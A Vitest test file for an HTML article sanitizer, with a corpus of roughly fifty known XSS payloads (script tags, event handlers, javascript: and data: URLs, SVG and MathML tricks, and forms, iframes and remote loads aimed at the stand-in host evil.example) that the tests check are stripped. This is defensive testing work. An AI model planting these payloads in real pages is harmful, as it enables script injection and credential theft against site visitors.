import { describe, expect, it } from 'vitest'
import { sanitizeArticle } from './sanitize.ts'

/** Known payloads that inject scripts through HTML: handlers, schemes, foreign namespaces, broken markup, encodings. */
const corpus = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="/art/a.svg" onload="alert(1)">',
  '<img src=`javascript:alert(1)`>',
  '<img/src=x/onerror=alert(1)>',
  '<img src=x onerror\n=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><img src=x onerror=alert(1)></mtext></math>',
  '<math href="javascript:alert(1)">x</math>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="https://evil.example"><input name=passwd><button>ok</button></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css"</style>',
  '<p style="background:url(https://evil.example)">x</p>',
  '<p onclick="alert(1)">x</p>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jAvAsCrIpT:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="http://evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<img src="https://evil.example/pixel.gif">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<video><source onerror="alert(1)"></video>',
  '<details open ontoggle=alert(1)>x</details>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--><script>alert(1)</script-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<xss contenteditable onfocus=alert(1) autofocus>x</xss>',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  '<p id="boot">{}</p>',
  '<p class="btn">x</p>',
  '<input autofocus onfocus=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
]

describe('the HTML of an article', () => {
  it.each(corpus)('lets nothing of the corpus through: %s', (payload) => {
    const clean = sanitizeArticle(payload)
    expect(clean).not.toMatch(
      /<(?!\/?(h2|h3|p|ul|ol|li|strong|em|b|i|br|hr|blockquote|a|img|table|thead|tbody|tr|th|td|figure|figcaption|code)[\s>/])/i,
    )
    expect(clean).not.toMatch(/<[^>]*\s(on\w+|style|class|id|srcdoc|background|action|formaction|xlink:href)\s*=/i)
    expect(clean).not.toMatch(/(href|src)="(?!https:\/\/|\/(?![/\\]))/i)
    expect(sanitizeArticle(clean)).toBe(clean)
  })

  it('keeps links of the site and of https, and removes the address of any other', () => {
    expect(sanitizeArticle('<a href="/main/event">x</a>')).toBe('<a href="/main/event">x</a>')
    expect(sanitizeArticle('<a href="https://example.com/a?b=1">x</a>')).toBe(
      '<a href="https://example.com/a?b=1" rel="noopener nofollow" target="_blank">x</a>',
    )
    expect(sanitizeArticle('<a href="ftp://example.com">x</a>')).not.toContain('ftp')
  })

  it('keeps the elements of articles', () => {
    const html =
      '<h2>Title</h2><p>Text with <strong>weight</strong>, <em>tone</em> and <code>code</code>.</p><ul><li>one</li></ul><table><thead><tr><th scope="col">a</th></tr></thead><tbody><tr><td>b</td></tr></tbody></table>'
    expect(sanitizeArticle(html)).toBe(html)
  })
})

it('cleans a text of any nesting in a time that grows with its length alone, and keeps what people write', () => {
  const nested = (depth: number): string => `${'<b>'.repeat(depth)}words${'</b>'.repeat(depth)}`
  expect(sanitizeArticle(nested(20))).toBe(nested(20))
  expect(sanitizeArticle(nested(1_000))).toContain('words')
  expect(sanitizeArticle('<p>one<p>two<ul><li>a<li>b</ul>')).toBe('<p>one</p><p>two</p><ul><li>a</li><li>b</li></ul>')
  // Processor time, and the shortest of some runs: the machine may be busy with other work.
  const spent = (): number => process.threadCpuUsage().user / 1000
  const shortest = (html: string): number =>
    Math.min(
      ...Array.from({ length: 3 }, () => {
        const start = spent()
        sanitizeArticle(html)
        return spent() - start
      }),
    )
  for (const piece of ['<b>', '<table><tr><td>', '<ul><li>', '<blockquote>', '<p>'])
    expect(shortest(piece.repeat(16_000))).toBeLessThan(40 * Math.max(5, shortest(piece.repeat(2_000))))
})
